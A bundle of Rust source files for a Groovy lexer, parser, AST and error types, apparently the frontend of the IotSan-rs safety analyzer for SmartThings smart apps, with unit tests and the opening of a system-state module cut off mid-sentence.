        span: Span,
    },
    /// `for (x in iterable) { ... }`
    ForIn {
        /// Loop variable.
        var: String,
        /// Iterated expression.
        iterable: Expr,
        /// Loop body.
        body: Block,
        /// Source span.
        span: Span,
    },
    /// `switch (subject) { case v: ...; default: ... }`
    Switch {
        /// Switch subject.
        subject: Expr,
        /// `case` arms in source order.
        cases: Vec<SwitchCase>,
        /// Optional `default` arm.
        default: Option<Block>,
        /// Source span.
        span: Span,
    },
    /// `try { ... } catch (e) { ... }` — the catch variable is ignored downstream.
    TryCatch {
        /// Protected body.
        body: Block,
        /// Handler body.
        catch: Block,
        /// Source span.
        span: Span,
    },
    /// `return e`
    Return(Option<Expr>, Span),
    /// `break`
    Break(Span),
    /// `continue`
    Continue(Span),
}

impl Stmt {
    /// The source span of the statement.
    pub fn span(&self) -> Span {
        match self {
            Stmt::Expr(e) => e.span(),
            Stmt::VarDecl { span, .. }
            | Stmt::Assign { span, .. }
            | Stmt::If { span, .. }
            | Stmt::While { span, .. }
            | Stmt::ForIn { span, .. }
            | Stmt::Switch { span, .. }
            | Stmt::TryCatch { span, .. } => *span,
            Stmt::Return(_, span) | Stmt::Break(span) | Stmt::Continue(span) => *span,
        }
    }
}

/// One `case` arm of a `switch` statement.
#[derive(Debug, Clone, PartialEq)]
pub struct SwitchCase {
    /// The matched value.
    pub value: Expr,
    /// The arm body (fallthrough is not modelled; SmartThings apps `break`).
    pub body: Block,
}

/// Binary operators, named after their Groovy spelling.
#[allow(missing_docs)]
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BinOp {
    Add,
    Sub,
    Mul,
    Div,
    Mod,
    Eq,
    NotEq,
    Lt,
    Le,
    Gt,
    Ge,
    And,
    Or,
    /// Membership test `x in list`.
    In,
    /// Spaceship `<=>`.
    Compare,
}

impl fmt::Display for BinOp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            BinOp::Add => "+",
            BinOp::Sub => "-",
            BinOp::Mul => "*",
            BinOp::Div => "/",
            BinOp::Mod => "%",
            BinOp::Eq => "==",
            BinOp::NotEq => "!=",
            BinOp::Lt => "<",
            BinOp::Le => "<=",
            BinOp::Gt => ">",
            BinOp::Ge => ">=",
            BinOp::And => "&&",
            BinOp::Or => "||",
            BinOp::In => "in",
            BinOp::Compare => "<=>",
        };
        write!(f, "{s}")
    }
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UnOp {
    /// Logical negation `!`.
    Not,
    /// Arithmetic negation `-`.
    Neg,
}

/// A piece of a GString: either literal text or an interpolated expression.
#[derive(Debug, Clone, PartialEq)]
pub enum GStringPart {
    /// Literal text.
    Text(String),
    /// A `${...}` or `$ident` interpolation.
    Interp(Expr),
}

/// A call argument: positional or named (`title: "Sensor"`).
#[derive(Debug, Clone, PartialEq)]
pub enum Arg {
    /// A positional argument.
    Positional(Expr),
    /// A named argument, e.g. `required: false`.
    Named(String, Expr),
}

impl Arg {
    /// The argument's expression, ignoring whether it is named.
    pub fn expr(&self) -> &Expr {
        match self {
            Arg::Positional(e) | Arg::Named(_, e) => e,
        }
    }
}

/// An expression.
#[derive(Debug, Clone, PartialEq)]
pub enum Expr {
    /// Integer literal.
    Int(i64, Span),
    /// Decimal literal.
    Decimal(f64, Span),
    /// Plain string literal (no interpolation).
    Str(String, Span),
    /// Interpolated string (GString).
    GString(Vec<GStringPart>, Span),
    /// Boolean literal.
    Bool(bool, Span),
    /// `null`.
    Null(Span),
    /// Variable or implicit-object reference.
    Var(String, Span),
    /// Property access `object.name` (or `object?.name`).
    Property {
        /// Receiver.
        object: Box<Expr>,
        /// Property name.
        name: String,
        /// True for safe navigation (`?.`).
        safe: bool,
        /// Source span.
        span: Span,
    },
    /// Index access `object[index]`.
    Index {
        /// Receiver.
        object: Box<Expr>,
        /// Index expression.
        index: Box<Expr>,
        /// Source span.
        span: Span,
    },
    /// A method call. `object` is `None` for implicit-this calls such as
    /// `subscribe(...)` and SmartThings API calls.
    MethodCall {
        /// Receiver, if any.
        object: Option<Box<Expr>>,
        /// Method name.
        name: String,
        /// Arguments (positional and named).
        args: Vec<Arg>,
        /// Trailing closure, if the call used `f(args) { ... }` syntax.
        closure: Option<Box<Expr>>,
        /// True for safe navigation (`?.`).
        safe: bool,
        /// Source span.
        span: Span,
    },
    /// Binary operation.
    Binary {
        /// The operator.
        op: BinOp,
        /// Left operand.
        lhs: Box<Expr>,
        /// Right operand.
        rhs: Box<Expr>,
        /// Source span.
        span: Span,
    },
    /// Unary operation.
    Unary {
        /// The operator.
        op: UnOp,
        /// Operand.
        operand: Box<Expr>,
        /// Source span.
        span: Span,
    },
    /// Ternary conditional `cond ? a : b`.
    Ternary {
        /// Condition.
        cond: Box<Expr>,
        /// Value when true.
        then: Box<Expr>,
        /// Value when false.
        els: Box<Expr>,
        /// Source span.
        span: Span,
    },
    /// Elvis operator `value ?: fallback`.
    Elvis {
        /// Preferred value.
        value: Box<Expr>,
        /// Fallback when the value is null/false.
        fallback: Box<Expr>,
        /// Source span.
        span: Span,
    },
    /// List literal `[a, b, c]`.
    ListLit(Vec<Expr>, Span),
    /// Map literal `[key: value, ...]` (also the empty map `[:]`).
    MapLit(Vec<(String, Expr)>, Span),
    /// Range `a..b`.
    Range {
        /// Lower bound (inclusive).
        from: Box<Expr>,
        /// Upper bound (inclusive).
        to: Box<Expr>,
        /// Source span.
        span: Span,
    },
    /// Closure literal `{ params -> stmts }`.
    Closure {
        /// Parameters; an empty list means the implicit `it` parameter.
        params: Vec<Param>,
        /// Body statements.
        body: Block,
        /// Source span.
        span: Span,
    },
    /// Cast `expr as Type`.
    Cast {
        /// The value being cast.
        expr: Box<Expr>,
        /// The target type.
        ty: TypeName,
        /// Source span.
        span: Span,
    },
    /// Constructor call `new Type(args)`.
    New {
        /// Constructed type.
        ty: TypeName,
        /// Constructor arguments.
        args: Vec<Arg>,
        /// Source span.
        span: Span,
    },
}

impl Expr {
    /// The source span of the expression.
    pub fn span(&self) -> Span {
        match self {
            Expr::Int(_, s)
            | Expr::Decimal(_, s)
            | Expr::Str(_, s)
            | Expr::GString(_, s)
            | Expr::Bool(_, s)
            | Expr::Null(s)
            | Expr::Var(_, s)
            | Expr::ListLit(_, s)
            | Expr::MapLit(_, s) => *s,
            Expr::Property { span, .. }
            | Expr::Index { span, .. }
            | Expr::MethodCall { span, .. }
            | Expr::Binary { span, .. }
            | Expr::Unary { span, .. }
            | Expr::Ternary { span, .. }
            | Expr::Elvis { span, .. }
            | Expr::Range { span, .. }
            | Expr::Closure { span, .. }
            | Expr::Cast { span, .. }
            | Expr::New { span, .. } => *span,
        }
    }

    /// Returns the string value when this is a plain string literal.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Expr::Str(s, _) => Some(s),
            _ => None,
        }
    }

    /// Returns the variable name when this is a simple variable reference.
    pub fn as_var(&self) -> Option<&str> {
        match self {
            Expr::Var(s, _) => Some(s),
            _ => None,
        }
    }

    /// True when this expression is a call to `name` (on any receiver).
    pub fn is_call_to(&self, name: &str) -> bool {
        matches!(self, Expr::MethodCall { name: n, .. } if n == name)
    }
}

/// Walks an expression tree, invoking `f` on every sub-expression (preorder).
pub fn walk_expr<'a>(expr: &'a Expr, f: &mut impl FnMut(&'a Expr)) {
    f(expr);
    match expr {
        Expr::Property { object, .. } => walk_expr(object, f),
        Expr::Index { object, index, .. } => {
            walk_expr(object, f);
            walk_expr(index, f);
        }
        Expr::MethodCall { object, args, closure, .. } => {
            if let Some(o) = object {
                walk_expr(o, f);
            }
            for a in args {
                walk_expr(a.expr(), f);
            }
            if let Some(c) = closure {
                walk_expr(c, f);
            }
        }
        Expr::Binary { lhs, rhs, .. } => {
            walk_expr(lhs, f);
            walk_expr(rhs, f);
        }
        Expr::Unary { operand, .. } => walk_expr(operand, f),
        Expr::Ternary { cond, then, els, .. } => {
            walk_expr(cond, f);
            walk_expr(then, f);
            walk_expr(els, f);
        }
        Expr::Elvis { value, fallback, .. } => {
            walk_expr(value, f);
            walk_expr(fallback, f);
        }
        Expr::ListLit(items, _) => {
            for e in items {
                walk_expr(e, f);
            }
        }
        Expr::MapLit(entries, _) => {
            for (_, e) in entries {
                walk_expr(e, f);
            }
        }
        Expr::Range { from, to, .. } => {
            walk_expr(from, f);
            walk_expr(to, f);
        }
        Expr::Closure { body, .. } => walk_block(body, &mut |s| walk_stmt_exprs(s, f)),
        Expr::Cast { expr, .. } => walk_expr(expr, f),
        Expr::New { args, .. } => {
            for a in args {
                walk_expr(a.expr(), f);
            }
        }
        Expr::GString(parts, _) => {
            for p in parts {
                if let GStringPart::Interp(e) = p {
                    walk_expr(e, f);
                }
            }
        }
        _ => {}
    }
}

/// Walks every statement in a block (preorder, recursing into nested blocks).
pub fn walk_block<'a>(block: &'a Block, f: &mut impl FnMut(&'a Stmt)) {
    for stmt in &block.stmts {
        walk_stmt(stmt, f);
    }
}

/// Walks a statement and all nested statements (preorder).
pub fn walk_stmt<'a>(stmt: &'a Stmt, f: &mut impl FnMut(&'a Stmt)) {
    f(stmt);
    match stmt {
        Stmt::If { then_block, else_block, .. } => {
            walk_block(then_block, f);
            if let Some(e) = else_block {
                walk_block(e, f);
            }
        }
        Stmt::While { body, .. } | Stmt::ForIn { body, .. } => walk_block(body, f),
        Stmt::Switch { cases, default, .. } => {
            for c in cases {
                walk_block(&c.body, f);
            }
            if let Some(d) = default {
                walk_block(d, f);
            }
        }
        Stmt::TryCatch { body, catch, .. } => {
            walk_block(body, f);
            walk_block(catch, f);
        }
        _ => {}
    }
}

/// Invokes `f` on every expression reachable from `stmt` (including inside
/// nested statements and closures).
pub fn walk_stmt_exprs<'a>(stmt: &'a Stmt, f: &mut impl FnMut(&'a Expr)) {
    match stmt {
        Stmt::Expr(e) => walk_expr(e, f),
        Stmt::VarDecl { init: Some(e), .. } => walk_expr(e, f),
        Stmt::Assign { target, value, .. } => {
            walk_expr(target, f);
            walk_expr(value, f);
        }
        Stmt::If { cond, then_block, else_block, .. } => {
            walk_expr(cond, f);
            for s in &then_block.stmts {
                walk_stmt_exprs(s, f);
            }
            if let Some(b) = else_block {
                for s in &b.stmts {
                    walk_stmt_exprs(s, f);
                }
            }
        }
        Stmt::While { cond, body, .. } => {
            walk_expr(cond, f);
            for s in &body.stmts {
                walk_stmt_exprs(s, f);
            }
        }
        Stmt::ForIn { iterable, body, .. } => {
            walk_expr(iterable, f);
            for s in &body.stmts {
                walk_stmt_exprs(s, f);
            }
        }
        Stmt::Switch { subject, cases, default, .. } => {
            walk_expr(subject, f);
            for c in cases {
                walk_expr(&c.value, f);
                for s in &c.body.stmts {
                    walk_stmt_exprs(s, f);
                }
            }
            if let Some(d) = default {
                for s in &d.stmts {
                    walk_stmt_exprs(s, f);
                }
            }
        }
        Stmt::TryCatch { body, catch, .. } => {
            for s in &body.stmts {
                walk_stmt_exprs(s, f);
            }
            for s in &catch.stmts {
                walk_stmt_exprs(s, f);
            }
        }
        Stmt::Return(Some(e), _) => walk_expr(e, f),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn var(name: &str) -> Expr {
        Expr::Var(name.into(), Span::synthetic())
    }

    #[test]
    fn type_name_display() {
        assert_eq!(TypeName::simple("Integer").to_string(), "Integer");
        assert_eq!(TypeName { name: "STSwitch".into(), array_dims: 1 }.to_string(), "STSwitch[]");
    }

    #[test]
    fn expr_accessors() {
        let s = Expr::Str("contact.open".into(), Span::synthetic());
        assert_eq!(s.as_str(), Some("contact.open"));
        assert_eq!(var("x").as_var(), Some("x"));
        assert_eq!(s.as_var(), None);
    }

    #[test]
    fn walk_expr_visits_all_nodes() {
        let e = Expr::Binary {
            op: BinOp::And,
            lhs: Box::new(var("a")),
            rhs: Box::new(Expr::Unary {
                op: UnOp::Not,
                operand: Box::new(var("b")),
                span: Span::synthetic(),
            }),
            span: Span::synthetic(),
        };
        let mut names = Vec::new();
        walk_expr(&e, &mut |e| {
            if let Some(v) = e.as_var() {
                names.push(v.to_string());
            }
        });
        assert_eq!(names, vec!["a", "b"]);
    }

    #[test]
    fn walk_stmt_recurses_into_branches() {
        let stmt = Stmt::If {
            cond: var("c"),
            then_block: Block { stmts: vec![Stmt::Expr(var("t"))], span: Span::synthetic() },
            else_block: Some(Block { stmts: vec![Stmt::Expr(var("e"))], span: Span::synthetic() }),
            span: Span::synthetic(),
        };
        let mut count = 0;
        walk_stmt(&stmt, &mut |_| count += 1);
        assert_eq!(count, 3);

        let mut exprs = Vec::new();
        walk_stmt_exprs(&stmt, &mut |e| {
            if let Some(v) = e.as_var() {
                exprs.push(v.to_string());
            }
        });
        assert_eq!(exprs, vec!["c", "t", "e"]);
    }

    #[test]
    fn is_call_to_matches_name() {
        let call = Expr::MethodCall {
            object: None,
            name: "subscribe".into(),
            args: vec![],
            closure: None,
            safe: false,
            span: Span::synthetic(),
        };
        assert!(call.is_call_to("subscribe"));
        assert!(!call.is_call_to("schedule"));
    }
}
