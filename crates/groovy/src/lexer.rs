//! Hand-written lexer for the Groovy subset used by SmartThings smart apps.
//!
//! Groovy is newline-sensitive: a statement normally ends at a newline unless
//! the line cannot be complete yet (e.g. it ends with a binary operator or an
//! opening bracket).  The lexer therefore emits explicit [`TokenKind::Newline`]
//! tokens, but suppresses them inside parentheses/brackets and after tokens
//! that syntactically continue the line.  This keeps the parser simple while
//! still accepting real-world smart-app layouts such as multi-line
//! `preferences { ... }` blocks and chained method calls.

use crate::error::{ParseError, Result};
use crate::span::Span;
use crate::token::{Token, TokenKind};

/// Converts smart-app source text into a token stream.
pub struct Lexer<'src> {
    src: &'src str,
    bytes: &'src [u8],
    pos: usize,
    line: u32,
    /// Nesting depth of `(` and `[`; newlines are suppressed when > 0.
    bracket_depth: usize,
    /// The last significant (non-newline) token kind emitted.
    last_significant: Option<TokenKind>,
}

impl<'src> Lexer<'src> {
    /// Creates a lexer over `src`.
    pub fn new(src: &'src str) -> Self {
        Lexer {
            src,
            bytes: src.as_bytes(),
            pos: 0,
            line: 1,
            bracket_depth: 0,
            last_significant: None,
        }
    }

    /// Tokenizes the entire input, appending a final [`TokenKind::Eof`].
    pub fn tokenize(mut self) -> Result<Vec<Token>> {
        let mut out = Vec::new();
        loop {
            let tok = self.next_token()?;
            let is_eof = tok.kind == TokenKind::Eof;
            // Collapse runs of newlines and drop leading newlines.
            if tok.kind == TokenKind::Newline
                && matches!(out.last().map(|t: &Token| &t.kind), None | Some(TokenKind::Newline))
            {
                continue;
            }
            out.push(tok);
            if is_eof {
                break;
            }
        }
        Ok(out)
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn peek_at(&self, off: usize) -> Option<u8> {
        self.bytes.get(self.pos + off).copied()
    }

    fn bump(&mut self) -> Option<u8> {
        let b = self.peek();
        if b.is_some() {
            self.pos += 1;
        }
        b
    }

    fn span_from(&self, start: usize, line: u32) -> Span {
        Span::new(start, self.pos, line)
    }

    fn skip_ws_and_comments(&mut self) -> Result<Option<Token>> {
        loop {
            match self.peek() {
                Some(b' ') | Some(b'\t') | Some(b'\r') => {
                    self.pos += 1;
                }
                Some(b'\\') if self.peek_at(1) == Some(b'\n') => {
                    // Explicit line continuation.
                    self.pos += 2;
                    self.line += 1;
                }
                Some(b'\n') => {
                    let start = self.pos;
                    let line = self.line;
                    self.pos += 1;
                    self.line += 1;
                    if self.should_emit_newline() {
                        return Ok(Some(Token::new(
                            TokenKind::Newline,
                            Span::new(start, start + 1, line),
                        )));
                    }
                }
                Some(b'/') if self.peek_at(1) == Some(b'/') => {
                    while let Some(b) = self.peek() {
                        if b == b'\n' {
                            break;
                        }
                        self.pos += 1;
                    }
                }
                Some(b'/') if self.peek_at(1) == Some(b'*') => {
                    let start = self.pos;
                    let line = self.line;
                    self.pos += 2;
                    loop {
                        match self.peek() {
                            Some(b'*') if self.peek_at(1) == Some(b'/') => {
                                self.pos += 2;
                                break;
                            }
                            Some(b'\n') => {
                                self.line += 1;
                                self.pos += 1;
                            }
                            Some(_) => self.pos += 1,
                            None => {
                                return Err(ParseError::new(
                                    "unterminated block comment",
                                    Span::new(start, self.pos, line),
                                ))
                            }
                        }
                    }
                }
                _ => return Ok(None),
            }
        }
    }

    fn should_emit_newline(&self) -> bool {
        if self.bracket_depth > 0 {
            return false;
        }
        match &self.last_significant {
            None => false,
            Some(kind) => !kind.continues_line(),
        }
    }

    fn next_token(&mut self) -> Result<Token> {
        if let Some(newline) = self.skip_ws_and_comments()? {
            return Ok(newline);
        }
        let start = self.pos;
        let line = self.line;
        let Some(c) = self.peek() else {
            return Ok(Token::new(TokenKind::Eof, Span::new(start, start, line)));
        };

        let kind = match c {
            b'0'..=b'9' => self.lex_number()?,
            b'"' | b'\'' => self.lex_string(c)?,
            b'_' | b'a'..=b'z' | b'A'..=b'Z' | b'$' => self.lex_ident(),
            _ => self.lex_symbol()?,
        };

        // Track bracket depth and the last significant token for the
        // newline-suppression heuristic.
        match kind {
            TokenKind::LParen | TokenKind::LBracket => self.bracket_depth += 1,
            TokenKind::RParen | TokenKind::RBracket => {
                self.bracket_depth = self.bracket_depth.saturating_sub(1)
            }
            _ => {}
        }
        self.last_significant = Some(kind.clone());
        Ok(Token::new(kind, self.span_from(start, line)))
    }

    fn lex_number(&mut self) -> Result<TokenKind> {
        let start = self.pos;
        let line = self.line;
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        let mut is_decimal = false;
        if self.peek() == Some(b'.') && matches!(self.peek_at(1), Some(b'0'..=b'9')) {
            is_decimal = true;
            self.pos += 1;
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        // Groovy numeric suffixes (L, G, d, f) are accepted and ignored.
        if matches!(self.peek(), Some(b'L') | Some(b'G') | Some(b'd') | Some(b'f')) {
            self.pos += 1;
        }
        let text = &self.src[start..self.pos].trim_end_matches(['L', 'G', 'd', 'f']);
        if is_decimal {
            text.parse::<f64>().map(TokenKind::Decimal).map_err(|_| {
                ParseError::new("invalid decimal literal", Span::new(start, self.pos, line))
            })
        } else {
            text.parse::<i64>().map(TokenKind::Int).map_err(|_| {
                ParseError::new("invalid integer literal", Span::new(start, self.pos, line))
            })
        }
    }

    fn lex_string(&mut self, quote: u8) -> Result<TokenKind> {
        let start = self.pos;
        let line = self.line;
        self.pos += 1; // opening quote
                       // Triple-quoted strings ("""...""" or '''...''').
        let triple = self.peek() == Some(quote) && self.peek_at(1) == Some(quote);
        if triple {
            self.pos += 2;
        }
        let mut out = String::new();
        loop {
            match self.peek() {
                None => {
                    return Err(ParseError::new(
                        "unterminated string literal",
                        Span::new(start, self.pos, line),
                    ))
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.bump() {
                        Some(b'n') => out.push('\n'),
                        Some(b't') => out.push('\t'),
                        Some(b'r') => out.push('\r'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'\'') => out.push('\''),
                        Some(b'"') => out.push('"'),
                        Some(b'$') => out.push('$'),
                        Some(other) => out.push(other as char),
                        None => {
                            return Err(ParseError::new(
                                "unterminated escape sequence",
                                Span::new(start, self.pos, line),
                            ))
                        }
                    }
                }
                Some(b) if b == quote => {
                    if triple {
                        if self.peek_at(1) == Some(quote) && self.peek_at(2) == Some(quote) {
                            self.pos += 3;
                            break;
                        }
                        out.push(quote as char);
                        self.pos += 1;
                    } else {
                        self.pos += 1;
                        break;
                    }
                }
                Some(b'\n') => {
                    if !triple {
                        return Err(ParseError::new(
                            "newline in string literal",
                            Span::new(start, self.pos, line),
                        ));
                    }
                    out.push('\n');
                    self.line += 1;
                    self.pos += 1;
                }
                Some(b) => {
                    out.push(b as char);
                    self.pos += 1;
                }
            }
        }
        Ok(TokenKind::Str(out))
    }

    fn lex_ident(&mut self) -> TokenKind {
        let start = self.pos;
        while matches!(
            self.peek(),
            Some(b'_') | Some(b'$') | Some(b'a'..=b'z') | Some(b'A'..=b'Z') | Some(b'0'..=b'9')
        ) {
            self.pos += 1;
        }
        let word = &self.src[start..self.pos];
        TokenKind::keyword(word).unwrap_or_else(|| TokenKind::Ident(word.to_string()))
    }

    fn lex_symbol(&mut self) -> Result<TokenKind> {
        let start = self.pos;
        let line = self.line;
        let c = self.bump().expect("caller checked non-empty");
        let two = self.peek();
        let kind = match (c, two) {
            (b'?', Some(b'.')) => {
                self.pos += 1;
                TokenKind::SafeDot
            }
            (b'?', Some(b':')) => {
                self.pos += 1;
                TokenKind::Elvis
            }
            (b'*', Some(b'.')) => {
                self.pos += 1;
                TokenKind::SpreadDot
            }
            (b'*', Some(b'*')) => {
                self.pos += 1;
                TokenKind::Power
            }
            (b'<', Some(b'=')) => {
                self.pos += 1;
                if self.peek() == Some(b'>') {
                    self.pos += 1;
                    TokenKind::Compare
                } else {
                    TokenKind::Le
                }
            }
            (b'>', Some(b'=')) => {
                self.pos += 1;
                TokenKind::Ge
            }
            (b'=', Some(b'=')) => {
                self.pos += 1;
                TokenKind::EqEq
            }
            (b'!', Some(b'=')) => {
                self.pos += 1;
                TokenKind::NotEq
            }
            (b'&', Some(b'&')) => {
                self.pos += 1;
                TokenKind::AndAnd
            }
            (b'|', Some(b'|')) => {
                self.pos += 1;
                TokenKind::OrOr
            }
            (b'+', Some(b'=')) => {
                self.pos += 1;
                TokenKind::PlusAssign
            }
            (b'-', Some(b'=')) => {
                self.pos += 1;
                TokenKind::MinusAssign
            }
            (b'*', Some(b'=')) => {
                self.pos += 1;
                TokenKind::StarAssign
            }
            (b'/', Some(b'=')) => {
                self.pos += 1;
                TokenKind::SlashAssign
            }
            (b'+', Some(b'+')) => {
                self.pos += 1;
                TokenKind::PlusPlus
            }
            (b'-', Some(b'-')) => {
                self.pos += 1;
                TokenKind::MinusMinus
            }
            (b'-', Some(b'>')) => {
                self.pos += 1;
                TokenKind::Arrow
            }
            (b'.', Some(b'.')) => {
                self.pos += 1;
                TokenKind::Range
            }
            (b'(', _) => TokenKind::LParen,
            (b')', _) => TokenKind::RParen,
            (b'{', _) => TokenKind::LBrace,
            (b'}', _) => TokenKind::RBrace,
            (b'[', _) => TokenKind::LBracket,
            (b']', _) => TokenKind::RBracket,
            (b',', _) => TokenKind::Comma,
            (b'.', _) => TokenKind::Dot,
            (b':', _) => TokenKind::Colon,
            (b';', _) => TokenKind::Semicolon,
            (b'?', _) => TokenKind::Question,
            (b'=', _) => TokenKind::Assign,
            (b'+', _) => TokenKind::Plus,
            (b'-', _) => TokenKind::Minus,
            (b'*', _) => TokenKind::Star,
            (b'/', _) => TokenKind::Slash,
            (b'%', _) => TokenKind::Percent,
            (b'!', _) => TokenKind::Not,
            (b'<', _) => TokenKind::Lt,
            (b'>', _) => TokenKind::Gt,
            (b'&', _) => TokenKind::BitAnd,
            (b'|', _) => TokenKind::BitOr,
            (b'@', _) => TokenKind::At,
            _ => {
                return Err(ParseError::new(
                    format!("unexpected character '{}'", c as char),
                    Span::new(start, self.pos, line),
                ))
            }
        };
        Ok(kind)
    }
}

/// Tokenizes `src`, returning the token stream or the first lexical error.
pub fn tokenize(src: &str) -> Result<Vec<Token>> {
    Lexer::new(src).tokenize()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<TokenKind> {
        tokenize(src).unwrap().into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn lexes_simple_statement() {
        let k = kinds("def x = 5");
        assert_eq!(
            k,
            vec![
                TokenKind::Def,
                TokenKind::Ident("x".into()),
                TokenKind::Assign,
                TokenKind::Int(5),
                TokenKind::Eof
            ]
        );
    }

    #[test]
    fn lexes_decimal_and_suffix() {
        assert_eq!(kinds("75.5")[0], TokenKind::Decimal(75.5));
        assert_eq!(kinds("10L")[0], TokenKind::Int(10));
    }

    #[test]
    fn lexes_strings_with_escapes() {
        assert_eq!(kinds(r#""hello\nworld""#)[0], TokenKind::Str("hello\nworld".into()));
        assert_eq!(kinds("'single'")[0], TokenKind::Str("single".into()));
    }

    #[test]
    fn gstring_dollar_is_preserved() {
        assert_eq!(
            kinds(r#""temp is ${evt.value}""#)[0],
            TokenKind::Str("temp is ${evt.value}".into())
        );
    }

    #[test]
    fn newline_ends_statement_but_not_inside_parens() {
        let k = kinds("subscribe(contact,\n \"contact.open\", handler)\nfoo()");
        assert!(k.contains(&TokenKind::Newline));
        // Only one newline: the one between ')' and 'foo'.
        assert_eq!(k.iter().filter(|k| **k == TokenKind::Newline).count(), 1);
    }

    #[test]
    fn newline_after_operator_is_suppressed() {
        let k = kinds("def x = a &&\n b");
        assert_eq!(k.iter().filter(|k| **k == TokenKind::Newline).count(), 0);
    }

    #[test]
    fn comments_are_skipped() {
        let k = kinds("// line comment\ndef x = 1 /* block\ncomment */ + 2");
        assert!(k.contains(&TokenKind::Plus));
        assert!(!k.iter().any(|k| matches!(k, TokenKind::Str(_))));
    }

    #[test]
    fn operators_two_char() {
        let k = kinds("a == b != c <= d >= e ?: f ?. g .. h");
        assert!(k.contains(&TokenKind::EqEq));
        assert!(k.contains(&TokenKind::NotEq));
        assert!(k.contains(&TokenKind::Le));
        assert!(k.contains(&TokenKind::Ge));
        assert!(k.contains(&TokenKind::Elvis));
        assert!(k.contains(&TokenKind::SafeDot));
        assert!(k.contains(&TokenKind::Range));
    }

    #[test]
    fn unterminated_string_is_error() {
        assert!(tokenize("\"oops").is_err());
        assert!(tokenize("/* oops").is_err());
    }

    #[test]
    fn unexpected_char_is_error() {
        assert!(tokenize("def x = `bad`").is_err());
    }

    #[test]
    fn triple_quoted_string() {
        let k = kinds("\"\"\"multi\nline\"\"\"");
        assert_eq!(k[0], TokenKind::Str("multi\nline".into()));
    }

    #[test]
    fn line_numbers_advance() {
        let toks = tokenize("a\nb\nc").unwrap();
        let lines: Vec<u32> = toks
            .iter()
            .filter(|t| matches!(t.kind, TokenKind::Ident(_)))
            .map(|t| t.span.line)
            .collect();
        assert_eq!(lines, vec![1, 2, 3]);
    }
}
