//! Error types for the Groovy frontend.

use crate::span::Span;
use std::fmt;

/// An error produced while lexing or parsing a smart app.
#[derive(Debug, Clone, PartialEq)]
pub struct ParseError {
    /// Human-readable description of what went wrong.
    pub message: String,
    /// Where in the source the error occurred.
    pub span: Span,
}

impl ParseError {
    /// Creates a new parse error.
    pub fn new(message: impl Into<String>, span: Span) -> Self {
        ParseError { message: message.into(), span }
    }
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "parse error at {}: {}", self.span, self.message)
    }
}

impl std::error::Error for ParseError {}

/// Convenience alias for frontend results.
pub type Result<T> = std::result::Result<T, ParseError>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_includes_line_and_message() {
        let e = ParseError::new("unexpected token", Span::new(5, 6, 3));
        assert_eq!(e.to_string(), "parse error at line 3: unexpected token");
    }

    #[test]
    fn is_std_error() {
        fn takes_err(_: &dyn std::error::Error) {}
        let e = ParseError::new("x", Span::synthetic());
        takes_err(&e);
    }
}
