//! # iotsan-groovy
//!
//! A from-scratch frontend for the Groovy subset used by Samsung SmartThings
//! smart apps, built for the IotSan-rs safety analyzer (Nguyen et al.,
//! *IotSan: Fortifying the Safety of IoT Systems*, CoNEXT 2018, §6).
//!
//! The crate provides:
//!
//! * a [`lexer`] producing a newline-aware token stream,
//! * a [`parser`] building a Groovy [`ast`] (closures, GStrings, list/map
//!   literals, command calls, trailing closures),
//! * a [`smartapp`] extraction layer that recovers the SmartThings DSL
//!   structure — `definition` metadata, `preferences` inputs, `subscribe`
//!   registrations and `schedule`/`runIn` timers — which downstream crates
//!   (the translator, the dependency analyzer and the model generator)
//!   consume.
//!
//! ```
//! use iotsan_groovy::SmartApp;
//!
//! let src = r#"
//! definition(name: "Brighten My Path", namespace: "st", author: "x", description: "turn on a light")
//! preferences {
//!     section("When motion...") { input "motionSensor", "capability.motionSensor" }
//!     section("Turn on...") { input "lights", "capability.switch", multiple: true }
//! }
//! def installed() {
//!     subscribe(motionSensor, "motion.active", motionActiveHandler)
//! }
//! def motionActiveHandler(evt) {
//!     lights.on()
//! }
//! "#;
//! let app = SmartApp::parse(src).expect("valid smart app");
//! assert_eq!(app.name(), "Brighten My Path");
//! assert_eq!(app.subscriptions.len(), 1);
//! assert_eq!(app.device_inputs().count(), 2);
//! ```

#![warn(missing_docs)]

pub mod ast;
pub mod error;
pub mod lexer;
pub mod parser;
pub mod smartapp;
pub mod span;
pub mod token;

pub use ast::{Block, Expr, Item, MethodDecl, Script, Stmt};
pub use error::{ParseError, Result};
pub use parser::{parse, parse_expression};
pub use smartapp::{
    AppMetadata, InputDecl, InputKind, ScheduleDecl, SmartApp, Subscription, SubscriptionSource,
};
pub use span::Span;
pub use token::{Token, TokenKind};
