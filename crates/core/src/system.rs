//! The installed system and its runtime state.
//!
//! An [`InstalledSystem`] binds translated apps ([`IrApp`]) to a concrete
//! [`SystemConfig`]: which devices exist, which devices each app input refers
//! to, which phone numbers are legitimate SMS recipients.  A [`SystemState`]
//! is the model checker's state vector: every device's attribute valuation,
//! the location mode, the modelled time, each app's persistent `state.*`
//! variables and (for the concurrent design) the queue of pending events.
//!
//! # Interned names and the flat state vector
//!
//! Installation freezes a [`Symbols`] table: app names, device labels,
//! attribute names, handler names, `sendEvent` attributes and location-event
//! names are interned exactly once, in deterministic first-intern order.  At
//! verification time runtime structures carry 4-byte [`Sym`] handles —
//! [`InternalEvent`] keys its attribute by `Sym`, and app state variables
//! live in a *slot table* fixed at installation (one slot per `(app, state
//! variable)` pair discovered in the IR), so [`SystemState::app_state`] is a
//! flat `Vec` indexed by slot instead of a `BTreeMap<String, String>`.
//! [`SystemState::encode_into`] is consequently a fixed-layout write — no
